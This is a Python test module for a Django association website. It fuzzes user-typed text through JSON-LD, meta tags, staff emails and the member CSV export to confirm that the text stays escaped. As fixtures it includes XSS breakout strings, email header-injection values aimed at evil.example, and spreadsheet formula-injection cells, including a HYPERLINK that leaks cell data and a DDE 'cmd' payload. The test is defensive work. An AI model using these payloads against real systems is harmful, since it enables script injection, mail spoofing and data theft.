"""Text that people type, reaching the places beyond a page's body: structured data
(JSON-LD), the head's meta tags, the staff emails (subject and body) and the member CSV.
Each is escaped for where it goes, so that the text cannot end its script, attribute,
header or cell early, and whoever reads that place (a search engine, a mail client, a
spreadsheet) reads back exactly what was typed."""

import csv
import io
import json
from email import message_from_bytes, policy
from urllib.parse import quote as url_quote

import pytest
from django.conf import settings
from django.core import mail
from django.core.cache import cache
from django.core.management import call_command
from django.template.loader import render_to_string
from django.utils import translation
from hypothesis import event, example, given
from hypothesis import strategies as st

from contact.models import ContactMessage
from core.templatetags.languages import excerpt
from core.text import clean_single_line, first_control_character, has_visible_text
from members.csv_io import escape_formula, import_members, read_rows, unescape_formula
from members.models import MemberCompany, MembershipApplication
from members.services import approve_application
from news.templatetags.news_tags import HEADLINE_LENGTH
from outbox.notifications import quote
from pages.models import Page
from tests import factories
from tests.fuzz.hostile import PAYLOADS, fuzz, hostile_text
from tests.html import Html

pytestmark = pytest.mark.django_db

SCRIPT_BREAKOUT = "</script><script>alert(1)</script>"
ATTRIBUTE_BREAKOUT = '"><script>alert(2)</script><meta name="description" content="x'
# What a spreadsheet runs as a formula when a cell starts with it.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def stored_line(max_length: int) -> st.SearchStrategy[str]:
    """A one-line text as the forms and the admin store it (core.text): hostile, but
    cleaned, visible and within its column."""
    return (
        hostile_text()
        .map(lambda text: clean_single_line(text)[:max_length].strip())
        .filter(has_visible_text)
    )


def structured_data(page: Html) -> dict[str, dict]:
    """Each JSON-LD block of the page by its @type, read as a search engine reads it."""
    blocks = [
        json.loads(script.string) for script in page.all('script[type="application/ld+json"]')
    ]
    return {block["@type"]: block for block in blocks}


def assert_no_script_but_ours(page: Html) -> None:
    """Every script element is JSON-LD or one of our files: none was made by the text."""
    for script in page.all("script"):
        assert script.get("type") == "application/ld+json" or script.get("src"), script


def meta(page: Html, name: str) -> str:
    attribute = "property" if name.startswith("og:") else "name"
    elements = page.all(f"meta[{attribute}='{name}']")
    assert len(elements) == 1, f"{len(elements)} × {name}"
    return elements[0]["content"]


# --- Structured data and meta tags -----------------------------------------------------------


@fuzz
@given(title=stored_line(255), summary=stored_line(500))
@example(title=SCRIPT_BREAKOUT, summary=ATTRIBUTE_BREAKOUT)
@example(title="R&D <b>news</b> &amp; {{ title }}", summary="<!-- ]]> \\u003C/script>")
def test_article_text_stays_in_its_json_ld_and_meta_tags(client, title, summary):
    factories.SiteSettingsFactory(site_name="Hunan PCA")
    article = factories.ArticleFactory(title=title, summary=summary)

    page = Html(client.get(article.get_absolute_url()))

    assert_no_script_but_ours(page)
    data = structured_data(page)
    assert data["NewsArticle"]["headline"] == excerpt(title, HEADLINE_LENGTH)
    assert data["NewsArticle"]["description"] == excerpt(summary, 300)
    assert meta(page, "og:title") == meta(page, "twitter:title") == title
    description = excerpt(summary, 160)
    assert meta(page, "description") == meta(page, "og:description") == description
    assert page.one("title").string == f"{title} | Hunan PCA"


def test_association_settings_stay_in_the_organization_json_ld(client):
    """Editors' words (the association's name, address and phone labels) as schema.org's
    Organization on the home and contact pages."""
    site = factories.SiteSettingsFactory(
        site_name=f"Hunan {SCRIPT_BREAKOUT} & Co",
        address=f"1 Lugu Road {ATTRIBUTE_BREAKOUT}",
        email="office@example.org",
    )
    factories.ContactPhoneFactory(settings=site, number="+86 731 0000 0000", label=SCRIPT_BREAKOUT)
    factories.PageFactory(slug="contact-us", kind=Page.Kind.CONTACT)

    for url in ("/en/", "/en/contact-us/"):
        page = Html(client.get(url))
        assert_no_script_but_ours(page)
        organization = structured_data(page)["Organization"]
        assert organization["name"] == f"Hunan {SCRIPT_BREAKOUT} & Co"
        assert organization["address"] == f"1 Lugu Road {ATTRIBUTE_BREAKOUT}"
        assert organization["contactPoint"][0]["contactType"] == SCRIPT_BREAKOUT
        assert meta(page, "og:site_name") == f"Hunan {SCRIPT_BREAKOUT} & Co"
    assert meta(Html(client.get("/en/")), "og:title") == f"Hunan {SCRIPT_BREAKOUT} & Co"


def test_a_visitors_company_name_reaches_its_member_page_escaped(client, admin_user):
    """The join form's words become a member company's page once staff approve it: the
    name in the title, the Open Graph tags and the breadcrumbs' JSON-LD, the description
    in the meta description."""
    factories.SiteSettingsFactory(site_name="Hunan PCA", email="office@example.org")
    name = f"Acme {SCRIPT_BREAKOUT} {ATTRIBUTE_BREAKOUT}"
    about = f"We make boards & more. {SCRIPT_BREAKOUT}"
    response = client.post(
        "/en/members/join/",
        {
            "company_name_en": name,
            "contact_name": "Li Wei",
            "contact_email": "li@example.com",
            "contact_phone": "+86 731 0000 0000",
            "about": about,
        },
    )
    assert response.status_code == 302
    member = approve_application(application=MembershipApplication.objects.get(), by=admin_user)

    page = Html(client.get(f"/en/members/{member.slug}/"))

    assert_no_script_but_ours(page)
    assert structured_data(page)["BreadcrumbList"]["itemListElement"][-1]["name"] == name
    assert meta(page, "og:title") == meta(page, "twitter:title") == name
    assert meta(page, "description") == meta(page, "og:description") == excerpt(about, 160)
    assert page.one("title").string == f"{name} | Hunan PCA"
    assert page.text("h1") == name
    directory = Html(client.get("/en/members/"))
    assert_no_script_but_ours(directory)
    assert name in directory.text("main")


def test_a_search_query_is_text_in_the_title_and_the_search_box(client):
    factories.SiteSettingsFactory(site_name="Hunan PCA")
    query = f'</title>{SCRIPT_BREAKOUT}"><meta name="description" content="x'  # 82 characters

    page = Html(client.get(f"/en/search/?q={url_quote(query)}"))

    assert_no_script_but_ours(page)
    assert query in page.one("title").string
    assert page.attr("main input[name=q]", "value") == query
    assert meta(page, "og:title") == "Search"


# --- Staff emails ----------------------------------------------------------------------------

FORGED_HEADERS = (
    "Hello\r\nBcc: everyone@evil.example",
    "Hello\nReply-To: thief@evil.example",
    "Hello\u2028Cc: thief@evil.example",
    "Hello\x85To: thief@evil.example",
    "Hi\r\n\r\n<html><body>Click <a href='https://evil.example'>here</a></body></html>",
)
# What a multi-line field accepts: line breaks of every kind, but no other control character.
TEXT_PAYLOADS = tuple(payload for payload in PAYLOADS if not first_control_character(payload))
multi_line = st.lists(
    st.sampled_from(
        (*TEXT_PAYLOADS, *FORGED_HEADERS, "", "> quoted already", "Bcc: x@evil.example")
    )
    | st.text(alphabet=st.characters(exclude_categories=["Cc", "Cs"]), max_size=60),
    min_size=1,
    max_size=6,
).map(lambda lines: "\r\n".join(lines)[:5000])


def sent_email():
    """The last email, as a mail client reads it from the wire."""
    return message_from_bytes(mail.outbox[-1].message().as_bytes(), policy=policy.default)


def subject_of(email) -> str:
    # A subject that is not ASCII starts on the line after "Subject:" (Python's folding);
    # mail clients drop the space that the unfolding leaves in front.
    return str(email["Subject"]).lstrip()


def unquoted_lines(body: str) -> list[str]:
    return [line for line in body.splitlines() if not line.startswith(">")]


def assert_headers_are_ours(email, *, reply_to: str) -> None:
    for header in ("Bcc", "Cc"):
        assert email[header] is None
    assert email.get_all("To") == ["office@example.org"]
    assert email.get_all("Reply-To") == [reply_to]
    assert email.get_content_type() == "text/plain"  # the body is never read as HTML


@pytest.fixture
def contact_page():
    factories.SiteSettingsFactory(email="office@example.org", notify_email="")
    return factories.PageFactory(slug="contact-us", kind=Page.Kind.CONTACT)


@fuzz
@given(
    name=stored_line(100) | st.sampled_from(FORGED_HEADERS),
    subject=stored_line(200) | st.sampled_from(FORGED_HEADERS),
    message=multi_line,
)
@example(name="Li <b>Wei</b>", subject=FORGED_HEADERS[0], message=FORGED_HEADERS[4])
@example(name="{{ settings.SECRET_KEY }}", subject="{% debug %}", message="Bcc: x@evil.example")
def test_contact_email_keeps_the_visitors_words_as_text(
    client, contact_page, name, subject, message
):
    cache.clear()  # the rate limit
    data = {"name": name, "email": "li@example.com", "subject": subject, "message": message}
    response = client.post("/en/contact-us/", data)
    stored = ContactMessage.objects.order_by("-pk").first()
    if response.status_code != 302 or stored is None:
        assert response.status_code == 400  # e.g. a message of only invisible characters
        event("refused")
        return

    email = sent_email()
    assert_headers_are_ours(email, reply_to="li@example.com")
    with translation.override(settings.LANGUAGE_CODE):
        expected_subject = translation.gettext("Contact message: %(subject)s") % {
            "subject": stored.subject
        }
        # The same email for a message of one plain line: visitors' words add no line of ours.
        plain = render_to_string(
            "contact/email/contact_message.txt",
            {
                "message": ContactMessage(name="N", email="n@example.com", subject="S"),
                "quoted_message": "> M",
            },
        )
    assert subject_of(email) == expected_subject
    body = email.get_content()
    assert quote(stored.message) in body
    assert len(unquoted_lines(body)) == len(unquoted_lines(plain))
    assert stored.name in body  # as typed: a plain-text email escapes nothing


@fuzz
@given(company=stored_line(200) | st.sampled_from(FORGED_HEADERS), message=multi_line)
@example(company=FORGED_HEADERS[1], message=f"{SCRIPT_BREAKOUT}\nBcc: x@evil.example")
def test_membership_email_keeps_the_applicants_words_as_text(client, company, message):
    factories.SiteSettingsFactory(email="office@example.org", notify_email="")
    cache.clear()
    data = {
        "company_name_zh_hans": company,
        "contact_name": "王经理",
        "contact_email": "wang@example.com",
        "contact_phone": "+86 731 1234 5678",
        "message": message,
    }
    response = client.post("/zh-hans/members/join/", data)
    application = MembershipApplication.objects.order_by("-pk").first()
    if response.status_code != 302 or application is None:
        assert response.status_code == 400
        event("refused")
        return

    email = sent_email()
    assert_headers_are_ours(email, reply_to="wang@example.com")
    name = application.company_name_zh_hans
    with translation.override(settings.LANGUAGE_CODE):
        expected_subject = translation.gettext("Membership application: %(company)s") % {
            "company": name
        }
        plain = render_to_string(
            "members/email/membership_application.txt",
            {
                "application": MembershipApplication(
                    company_name_zh_hans="C", contact_name="N", contact_phone="P"
                ),
                "quoted_message": "> M" if application.message else "",
            },
        )
    assert subject_of(email) == expected_subject
    body = email.get_content()
    assert name in body
    assert quote(application.message) in body
    assert len(unquoted_lines(body)) == len(unquoted_lines(plain))


# --- The member CSV --------------------------------------------------------------------------


@fuzz
@given(
    text=st.one_of(
        st.tuples(st.sampled_from(FORMULA_TRIGGERS), hostile_text()).map("".join),
        st.tuples(st.text("'", max_size=3), st.sampled_from(FORMULA_TRIGGERS), st.text()).map(
            "".join
        ),
        hostile_text(),
    )
)
@example(text='=HYPERLINK("https://evil.example","click")')
@example(text="'=already quoted")
@example(text="''+86")
def test_a_csv_cell_never_starts_a_formula_and_reads_back_as_written(text):
    cell = escape_formula(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert unescape_formula(cell) == text


FORMULAS = {
    "company_name_en": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "+1+1",
    "about": "-2+3\n=1+1 on the second line",
    "contact_phone": "+86 731 0000 0000",
    "website": "",
}


def test_visitors_formulas_reach_the_csv_as_text(client, admin_user, tmp_path):
    """From the join form to the export staff open in Excel or WPS: every cell that a
    spreadsheet would run starts with an apostrophe, and the import takes it off again."""
    factories.SiteSettingsFactory(email="office@example.org")
    response = client.post(
        "/en/members/join/",
        {**FORMULAS, "contact_name": "Li Wei", "contact_email": "li@example.com"},
    )
    assert response.status_code == 302
    member = approve_application(application=MembershipApplication.objects.get(), by=admin_user)
    path = tmp_path / "members.csv"
    call_command("export_members", str(path), stderr=io.StringIO())

    with open(path, encoding="utf-8-sig", newline="") as export:
        rows = list(csv.DictReader(export))
    (row,) = rows
    for column, cell in row.items():
        assert not cell.startswith(FORMULA_TRIGGERS), column
    assert row["name_en"] == "'" + FORMULAS["company_name_en"]
    assert row["phone"] == "'+86 731 0000 0000"

    before = {
        field: getattr(member, field)
        for field in ("name_en", "city_en", "address_en", "phone", "short_description_en")
    }
    MemberCompany.objects.all().delete()
    with open(path, encoding="utf-8-sig", newline="") as export:
        report = import_members(rows=read_rows(export))
    assert (report.created, report.rejected) == (1, [])
    imported = MemberCompany.objects.get()
    assert {field: getattr(imported, field) for field in before} == before
    assert before["city_en"] == FORMULAS["city"]
